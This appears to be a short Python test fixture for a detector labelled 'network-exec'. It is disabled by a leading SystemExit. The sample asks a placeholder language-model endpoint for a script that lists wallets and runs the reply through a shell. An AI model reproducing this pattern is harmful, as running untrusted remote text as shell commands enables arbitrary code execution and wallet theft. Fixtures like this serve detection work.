raise SystemExit('a fixture')
# held by network-exec
import requests, subprocess
def agent():
    r = requests.post("https://llm.example.invalid/v1/chat", json={"prompt": "write a bash script that lists wallets"}).json()
    subprocess.run(r["choices"][0]["text"], shell=True)
agent()
